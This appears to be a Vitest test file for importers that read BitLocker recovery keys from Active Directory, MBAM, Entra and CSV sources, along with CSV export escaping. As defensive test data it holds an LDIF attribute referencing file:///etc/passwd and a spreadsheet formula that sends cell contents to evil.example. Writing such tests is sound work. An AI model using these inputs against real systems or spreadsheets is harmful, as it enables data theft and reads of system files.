/** The readers of the four sources: every record is read or named with its line, whatever the encoding and the chunks. */
import { describe, expect, it } from 'vitest';
import { IMPORT_SOURCES, type ImportSource } from '../../shared/domain/vocabulary.ts';
import { EXPORT_HEADER, exportRow } from '../../shared/export/csv.ts';
import type { Candidate } from '../../shared/helpdesk/messages.ts';
import { ActiveDirectoryReader } from '../../shared/import/active-directory.ts';
import { EntraReader } from '../../shared/import/entra.ts';
import { mbamReader } from '../../shared/import/mbam.ts';
import { ImportFormatError, type ImportItem, type ImportReader } from '../../shared/import/record.ts';
import { parseSiteRules } from '../../shared/import/sites.ts';
import { SpreadsheetReader } from '../../shared/import/spreadsheet.ts';
import { notText } from '../../shared/import/text.ts';
import { CSV_MAP, type Encoding, sourceFile, trueKeys, truthOf } from './sources.ts';

const RECORDS = 2_000;

function readerOf(source: ImportSource): ImportReader {
  if (source === 'active-directory') return new ActiveDirectoryReader();
  if (source === 'mbam') return mbamReader(null);
  if (source === 'entra') return new EntraReader();
  return new SpreadsheetReader({ delimiter: null, map: CSV_MAP });
}

function read(reader: ImportReader, file: Uint8Array, chunkBytes = 65_536): ImportItem[] {
  const items: ImportItem[] = [];
  for (let at = 0; at < file.length; at += chunkBytes)
    items.push(...reader.push(file.subarray(at, at + chunkBytes)));
  return [...items, ...reader.end()];
}

const text = (reader: ImportReader, content: string): ImportItem[] => read(reader, Buffer.from(content));
const plain = (item: ImportItem): unknown =>
  'fault' in item
    ? item
    : { ...item, password: item.recoveryPassword.reveal(), package: item.keyPackage?.reveal().join() };

describe.each([...IMPORT_SOURCES])('%s', (source) => {
  const wholes = (encoding: Encoding) => Buffer.concat([...sourceFile(source, RECORDS, { encoding })]);

  it.each<Encoding>(['utf-8', 'utf-16le', 'utf-16be'])(
    'counts add up in %s, with known truth',
    (encoding) => {
      const reader = readerOf(source);
      const items = read(reader, wholes(encoding));
      const truth = truthOf(RECORDS);
      expect(items).toHaveLength(truth.records);
      expect(items.filter((item) => 'fault' in item)).toHaveLength(truth.invalid);
      const faults = items.flatMap((item) => ('fault' in item ? [item.fault] : []));
      const each = RECORDS / 100;
      expect(
        faults.filter((fault) => fault === 'not-divisible-by-11' || fault === 'group-too-large'),
      ).toHaveLength(each);
      expect(faults.filter((fault) => fault === 'malformed')).toHaveLength(each);
      expect(faults.filter((fault) => fault === 'encoding-unknown')).toHaveLength(each);
      expect(reader.notices.windows1252).toBe(encoding === 'utf-8' ? each : 0);
      expect(reader.notices).toMatchObject({ pagesMissing: false, cutOff: false });
      const seen = new Set(
        items.flatMap((item) => ('fault' in item ? [] : [`${item.keyId} ${item.recoveryPassword.reveal()}`])),
      );
      expect(seen).toEqual(
        new Set([...trueKeys(RECORDS)].map(({ keyId, recoveryPassword }) => `${keyId} ${recoveryPassword}`)),
      );
    },
  );

  it('reads the same in chunks of any size', () => {
    const file = Buffer.concat([...sourceFile(source, 200)]);
    const whole = read(readerOf(source), file).map(plain);
    for (const size of [1, 2, 3, 7, 61, 1_024])
      expect(read(readerOf(source), file, size).map(plain)).toEqual(whole);
  });

  it('names the line at which a record begins', () => {
    const lines = wholes('utf-8').toString('latin1').split('\n');
    for (const item of read(readerOf(source), wholes('utf-8')).slice(0, 300)) {
      if ('fault' in item) expect(lines[item.line - 1]).toBeDefined();
      else
        expect(
          lines
            .slice(item.line - 1, item.line + 11)
            .join('')
            .replace(/\r /g, '')
            .toLowerCase(),
        ).toContain(item.keyId);
    }
  });

  it('never has a password in what it says of a fault', () => {
    const said = JSON.stringify(read(readerOf(source), wholes('utf-8')));
    const told = [...trueKeys(RECORDS)].filter(({ recoveryPassword }) => {
      const groups = recoveryPassword.split('-').slice(3);
      return ['-', ' ', ''].some((sign) => said.includes(groups.join(sign)));
    });
    expect(told).toHaveLength(0);
  });
});

const [first] = trueKeys(1);
const password = first?.recoveryPassword ?? '';
const ID = '3fd763f9-74c7-4e90-8fa2-1f6a2e2b4e0c';

describe('active-directory', () => {
  const entry = (lines: readonly string[]) => text(new ActiveDirectoryReader(), `${lines.join('\n')}\n`);
  const base = [
    'dn: CN=2024-01-31T09:32:11-05:00{3FD763F9-74C7-4E90-8FA2-1F6A2E2B4E0C},CN=PC\\, old \\22a\\22,OU=Lugo\\2C Norte,DC=corp,DC=example',
    `msFVE-RecoveryPassword: ${password}`,
  ];

  it('reads the GUID in the order in which Windows stores it', () => {
    const [item] = entry([...base, 'msFVE-RecoveryGuid:: +WPXP8d0kE6Poh9qLitODA==']);
    expect(item).toMatchObject({ keyId: ID, computerName: 'PC, old "a"', domain: 'corp.example' });
    expect(item).toMatchObject({
      ou: 'ou=lugo\\, norte,dc=corp,dc=example',
      createdAt: null,
      volumeId: null,
    });
  });

  it('refuses bytes in another order than the name says', () => {
    expect(entry([...base, 'msFVE-RecoveryGuid:: P9dj+XTHTpCPoh9qLitODA=='])).toEqual([
      { line: 1, fault: 'key-ids-differ' },
    ]);
  });

  it('takes the ID from the name, a DN in base64, and attributes in any case', () => {
    const dn = `dn:: ${Buffer.from(base[0]?.slice(4) ?? '').toString('base64')}`;
    const [item] = entry([dn, `MSFVE-RECOVERYPASSWORD: ${password}`, 'WhenCreated: 20240131093211.0Z']);
    expect(item).toMatchObject({ keyId: ID, createdAt: Date.UTC(2024, 0, 31, 9, 32, 11) });
  });

  it('tells an entry whose password may not be read, and passes over other entries', () => {
    const reader = new ActiveDirectoryReader();
    const items = text(
      reader,
      'dn: CN=a{3FD763F9-74C7-4E90-8FA2-1F6A2E2B4E0C},CN=PC,DC=x\nobjectClass: msFVE-RecoveryInformation\n\n' +
        'dn: CN=PC,DC=x\nobjectClass: computer\n\n# search result\nsearch: 2\nresult: 0 Success\n',
    );
    expect(items).toEqual([{ line: 1, fault: 'password-missing' }]);
    expect(reader.notices.otherEntries).toBe(1);
  });

  it('notices that the file breaks off within a value, which may look like a whole one', () => {
    const read = (content: string) => {
      const reader = new ActiveDirectoryReader();
      return { items: text(reader, content), cutOff: reader.notices.cutOff };
    };
    const whole = `${[...base, 'msFVE-KeyPackage:: AAAA'].join('\n')}\n`;
    expect(read(whole)).toMatchObject({ items: [{ keyId: ID }], cutOff: false });
    expect(read(whole.slice(0, -1))).toMatchObject({ items: [{ keyId: ID }], cutOff: true });
  });

  it('follows no file that an attribute names', () => {
    expect(entry([...base, 'msFVE-KeyPackage:< file:///etc/passwd'])).toEqual([
      { line: 3, fault: 'malformed' },
    ]);
  });
});

describe('csv', () => {
  const csv = (content: string, options = {}) =>
    text(new SpreadsheetReader({ delimiter: null, map: {}, ...options }), content);

  it.each([',', ';', '\t', '|'])('finds the delimiter %j', (sign) => {
    const [item] = csv(
      ['Key ID', 'Recovery Password', 'Computer'].join(sign) + `\n${[ID, password, 'PC'].join(sign)}`,
    );
    expect(item).toMatchObject({ keyId: ID, computerName: 'PC', line: 2 });
  });

  it('names missing columns, and nothing of what stands there', () => {
    for (const content of ['', 'a,b\n1,2', `${ID},${password}\n`])
      expect(() => csv(content)).toThrow(ImportFormatError);
    expect(() => csv('keyId,recoveryPassword\n', { map: { users: 'Owner' } })).toThrow(
      expect.objectContaining({ missing: ['users'] }) as Error,
    );
  });

  it.each(['\r', '\n', '\r\n'])('ends lines at %j, in chunks of any size', (end) => {
    const rows = [
      'keyId,recoveryPassword,computer',
      `${ID},${password},A`,
      '',
      `${ID},x,B`,
      `${ID},${password},C`,
    ];
    const file = Buffer.from(rows.join(end));
    for (const size of [1, 2, 5, 1_000]) {
      const items = read(new SpreadsheetReader({ delimiter: null, map: {} }), file, size);
      expect(items).toMatchObject([
        { line: 2, computerName: 'A' },
        { line: 4, fault: 'not-48-digits' },
        { line: 5, computerName: 'C' },
      ]);
    }
  });

  it.each(['utf-16le', 'utf-16be'])('reads %s without a byte-order mark', (encoding) => {
    const content = Buffer.from(`keyId,recoveryPassword,computer\r\n${ID},${password},Ñandú\r\n`, 'utf16le');
    const file = encoding === 'utf-16le' ? content : content.swap16();
    for (const size of [1, 2, 1_000])
      expect(read(new SpreadsheetReader({ delimiter: null, map: {} }), file, size)).toMatchObject([
        { keyId: ID, computerName: 'Ñandú' },
      ]);
  });

  it('finds columns whose names have no Latin letters, and only those', () => {
    const named = { keyId: 'Ключ', recoveryPassword: 'Пароль' };
    expect(csv(`Пароль,Ключ\n${password},${ID}\n`, { map: named })).toMatchObject([{ keyId: ID }]);
    expect(() => csv(`Дата,Время\n${password},${ID}\n`, { map: named })).toThrow(
      expect.objectContaining({ missing: ['keyId', 'recoveryPassword'] }) as Error,
    );
  });

  it('goes on at the next line where a quotation mark is never closed', () => {
    const items = csv(`keyId,recoveryPassword,computer\n${ID},${password},"open\n${ID},${password},PC\n`);
    expect(items.map((item) => ('fault' in item ? item.fault : item.computerName))).toEqual([
      'malformed',
      'PC',
    ]);
  });

  it('refuses a key package and a volume ID that are none, and reads NULL as nothing', () => {
    const rows = [`${ID},${password},0x0,NULL`, `${ID},${password},NULL,C:`, `${ID},${password},NULL,NULL`];
    const items = csv(`keyId,recoveryPassword,keyPackage,volumeId\n${rows.join('\n')}\n`);
    expect(items.map((item) => ('fault' in item ? item.fault : 'read'))).toEqual([
      ...['key-package-invalid', 'volume-id-invalid', 'read'],
    ]);
  });
});

describe('entra', () => {
  const json = (content: string) => {
    const reader = new EntraReader();
    return { reader, items: text(reader, content) };
  };
  const object = JSON.stringify({ id: ID, key: password, deviceId: 'a-device' });

  it.each([
    ['one object', object, 1],
    ['an array', `[${object},\n${object}]`, 2],
    ['a page', `{"value":[${object}]}`, 1],
    ['an array of pages', `[{"value":[${object}]},{"value":[${object},${object}]}]`, 3],
    ['a line each', `${object}\n${object}\n`, 2],
    ['an empty page', '{"value":[]}', 0],
  ])('reads %s', (_, content, count) => {
    const { items, reader } = json(content);
    expect(items.map((item) => 'fault' in item)).toEqual(Array(count).fill(false));
    expect(reader.notices).toMatchObject({ cutOff: false, pagesMissing: false });
  });

  it('notices that pages are missing, that the file is cut off, and that a list has no keys', () => {
    expect(json(`{"@odata.nextLink":"x","value":[${object}]}`).reader.notices.pagesMissing).toBe(true);
    expect(json(`{"value":[${object}],"@odata.nextLink":"x"}`).reader.notices.pagesMissing).toBe(true);
    const cut = json(`{"value":[${object},{"id":`);
    expect(cut.reader.notices.cutOff).toBe(true);
    expect(cut.items).toHaveLength(2);
    expect(json(`{"value":[{"id":"${ID}"}]}`).items).toEqual([{ line: 1, fault: 'password-missing' }]);
  });

  it.each([
    ['a missing bracket', `[${object.slice(0, -1)},\n${object}]`],
    ['an open string', `[{"id":"${ID},"key":1}\n,${object}]`],
    ['no object', `[17, ${object}]`],
  ])('goes on behind %s', (_, content) => {
    const { items } = json(content);
    expect(items.map((item) => ('fault' in item ? item.fault : item.keyId))).toEqual(['malformed', ID]);
  });
});

it.each([
  ...["'=1+1", "''=1+1", "'-5", "''-5", '-5', "'PC-1", "'", "''", "'＝1"],
  ...['=1+1', '-5-1', "O'Brien", "'+'", '@'],
])('brings back a name as it was, apostrophes of its own included: %s', (name) => {
  const candidate = {
    ...{ keyId: ID, commitment: '', deviceId: 'd-1', volumeId: ID, volumeType: 1, siteId: 'madrid' },
    ...{ computerName: name, domain: name, users: [name], escrowedAt: 0, state: 'present' },
  } as unknown as Candidate;
  const file = EXPORT_HEADER + exportRow(candidate, password, null);
  expect(text(new SpreadsheetReader({ delimiter: null, map: {} }), file)).toMatchObject([
    { computerName: name, domain: name, users: [name] },
  ]);
});

it('brings back what an export made harmless for spreadsheets', () => {
  const name = '=WEBSERVICE("https://evil.example/"&B2)';
  const candidate = {
    ...{ keyId: ID, commitment: '', deviceId: 'd-1', volumeId: ID, volumeType: 1, siteId: 'madrid' },
    ...{
      computerName: name,
      domain: '@corp',
      users: ['+ana', 'CORP\\luis'],
      escrowedAt: 0,
      state: 'present',
    },
  } as unknown as Candidate;
  const file = EXPORT_HEADER + exportRow(candidate, password, null);
  expect(file).toContain(`,"'=WEBSERVICE(`);
  expect(file).toContain(`,'@corp,"'+ana;`);
  expect(text(new SpreadsheetReader({ delimiter: null, map: {} }), file)).toMatchObject([
    { computerName: name, domain: '@corp', users: ['+ana', 'CORP\\luis'] },
  ]);
});

it.each([
  ['gzip', [0x1f, 0x8b, 8, 0]],
  ['zip', [0x50, 0x4b, 3, 4]],
  ['binary', [0, 0, 0, 0, 1, 2]],
  [null, [...Buffer.from('keyId,recoveryPassword')]],
  [null, [...Buffer.from('keyId', 'utf16le')]],
  [null, []],
])('knows by its first bytes a file that is %s', (kind, bytes) => {
  expect(notText(Uint8Array.from(bytes))).toBe(kind);
});

describe('site rules', () => {
  const rules = parseSiteRules(
    '# comment\ncomputer PC-MAD-*  madrid\nou\tOU=Toledo, DC=corp,DC=example\ttoledo\ndomain *.norte.example lugo\n',
    null,
  );

  it.each([
    [{ computerName: 'pc-mad-7', domain: 'x', ou: null }, 'madrid'],
    [{ computerName: 'PC', domain: 'corp.example', ou: 'ou=sales,ou=toledo,dc=corp,dc=example' }, 'toledo'],
    [{ computerName: 'PC', domain: 'a.norte.example', ou: null }, 'lugo'],
    [{ computerName: 'PC', domain: 'anorte.example', ou: 'ou=nototoledo,dc=corp,dc=example' }, null],
  ])('%j is of %s', (computer, site) => {
    if (typeof rules !== 'function') throw new Error('the rules are not read');
    expect(rules(computer)).toBe(site);
  });

  it.each(['user maria madrid', 'ou nothing madrid', 'computer PC', 'domain x Not-A-Site'])(
    'refuses %j',
    (line) => {
      expect(parseSiteRules(`# first\n${line}`, null)).toEqual({ line: 2 });
    },
  );
});
